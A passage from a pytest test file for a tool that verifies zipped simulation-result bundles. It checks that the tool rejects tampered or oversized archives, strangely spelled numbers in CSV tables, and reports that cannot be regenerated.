            struct.pack_into("<I", whole, at + 42, one.header_offset + len(tail))
        at += 46 + len(one.filename)
    struct.pack_into("<I", whole, len(whole) - 6, start + len(tail))
    return bytes(whole[:behind] + tail + whole[behind:])


@pytest.mark.parametrize(
    ("change", "told"),
    [
        (lambda content: b"MZ" + content, "bytes around"),
        (lambda content: b"#!/bin/sh\n" + content, "bytes around"),
        (lambda content: content + b"\n", "damaged|bytes around"),
        (lambda content: content + bytes(70_000), "no bundle"),
        (lambda content: with_remark(content, b"<script>"), "bytes around the archive"),
        (lambda content: with_bytes_between(content, b"evil"), "bytes around the archive"),
        (lambda content: with_local_extra(content, SCENARIO), "described in two ways"),
    ],
)
def test_bytes_around_an_archive_are_refused(packed, tmp_path, change, told):
    path = tmp_path / "more.bundle"
    path.write_bytes(change(packed))
    with pytest.raises(BadInput, match=told):
        bundle.open_bundle(path)


def test_bytes_behind_a_members_end_are_told(checked, packed):
    (one,) = checked(with_unpacked_tail(packed, SCENARIO)).altered
    assert one == (SCENARIO, "is damaged")


def test_a_member_packed_beyond_what_any_table_is_is_refused(tmp_path):
    path = tmp_path / "bomb.bundle"
    path.write_bytes(zipped(("result/runs.csv", bytes(2**22))))
    with pytest.raises(BadInput, match="packed more than 200 times"):
        bundle.open_bundle(path)


def test_a_study_in_which_nothing_happens_is_packed_within_the_limits(small):
    lines = [f"no_reward,{seed},{month}" + ",0" * 60 for seed in range(200) for month in range(180)]
    content = "\n".join(lines).encode()
    path = zipfile.ZipFile(io.BytesIO(bundle.archive({"result/months.csv": content})))
    assert bundle.suspicion(path) == ""
    assert len(content) > bundle.SMALL


# --- what a bundle would take ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("change", "key"),
    [
        (lambda told: told["inputs"].update(clients=10_000_000, years=50, seeds=16), "clients"),
        (lambda told: told["inputs"].update(seeds=100_000, years=50, clients=6_000), "seeds"),
        (lambda told: told["inputs"].update(worlds=100_000, clients=3_000, years=50), "worlds"),
    ],
)
def test_a_bundle_that_would_take_too_much_is_refused_before_anything_is_simulated(
    checked, packed, monkeypatch, change, key
):
    monkeypatch.setattr(verification, "repeat", lambda *_, **__: pytest.fail("was simulated"))
    with pytest.raises(BadInput, match=rf"manifest\.json: inputs\.{key}: .*--at-most [0-9e]+"):
        checked(with_manifest(packed, change))


def test_it_says_what_a_bundle_takes_and_does_more_if_asked(checked, packed):
    told = []
    with pytest.raises(BadInput, match="is much"):
        checked(packed, at_most="1e3", announce=told.append)
    assert told == []
    assert checked(packed, at_most="1e9", announce=told.append).is_sound
    (needed,) = told
    assert needed.runs == 6
    assert needed.account_months == 640 * (3 * 12 + 6 * 12)
    assert checked(packed, sample=1, at_most="2e4").is_sound


# --- texts that only look like numbers ------------------------------------------------------------


def elsewhere(content):
    """Return a bundle that says it was made with other libraries."""
    return with_manifest(content, lambda told: told["versions"].update(matplotlib="1.0.0"))


SPELLINGS = {
    "other digits": "٤٠",
    "full width": "\N{FULLWIDTH DIGIT ONE}",
    "an underscore": "6_00",
    "a space": " 1",
    "a plus sign": "+1",
    "a decimal comma": '"1,0"',
    "a leading zero": "01",
    "hexadecimal": "0xa",
    "a quoted number": '"1"',
    "no number": "nan",
    "nothing": "",
    "a carriage return": "1\r",
    "a line separator": "1\N{LINE SEPARATOR}",
}


@pytest.mark.parametrize("name", SPELLINGS)
def test_numbers_in_text_tables_are_read_strictly(checked, packed, name):
    other, old = SPELLINGS[name], b'"lock",1,'
    member = "result/runs.csv"
    text = members(packed)[member]
    assert old in text
    for content in (packed, elsewhere(packed)):
        forged = text.replace(old, f'"lock",{other},'.encode(), 1)
        faults = checked(with_member(content, member, forged), sample=1).faults
        assert [one.member for one in faults] == [member]


def test_another_spelling_of_the_same_number_passes_with_other_libraries_only(checked, packed):
    member = "result/runs.csv"
    forged = members(packed)[member].replace(b'"lock",1,', b'"lock",1e0,', 1)
    assert checked(with_member(elsewhere(packed), member, forged), sample=1).is_sound
    assert not checked(with_member(packed, member, forged), sample=1).is_sound


@pytest.mark.parametrize("member", ["result/runs.csv", SCENARIO])
def test_bytes_that_are_no_text_are_told(checked, packed, member):
    for junk in (b"\xff", b"\xed\xa0\x80"):
        text = members(packed)[member] + junk
        (fault,) = checked(with_member(packed, member, text), sample=1).faults
        assert (fault.member, fault.stored) == (member, "no text in UTF-8")


# --- a report that cannot be written again --------------------------------------------------------


def test_a_report_that_could_not_be_written_again_is_not_verified(checked, packed):
    def broken(*_):
        raise RuntimeError("a font is missing")

    page = b'<!DOCTYPE html>\n<html lang="en"><body><p>Choice is best.</p></body></html>\n'
    content = with_member(packed, "result/report.html", page)
    found = checked(content, draw=REDRAW._replace(report=broken))
    assert found.is_sound
    assert not found.is_whole
    assert found.unchecked == ("result/report.html",)
    assert headline(found).startswith("NOT VERIFIED: not checked: report.html. ")
    (fault,) = checked(content, draw=REDRAW).faults
    assert fault.member == "result/report.html"


def test_pictures_that_could_not_be_drawn_again_here_are_not_verified(checked, packed):
    def broken(*_):
        raise RuntimeError("a font is missing")

    found = checked(packed, draw=REDRAW._replace(pictures=broken))
    assert not found.is_whole
    assert "trajectories.png" in headline(found)
    other = checked(elsewhere(packed), draw=REDRAW._replace(pictures=broken))
    assert other.is_whole
    assert headline(other).startswith("VERIFIED: ")
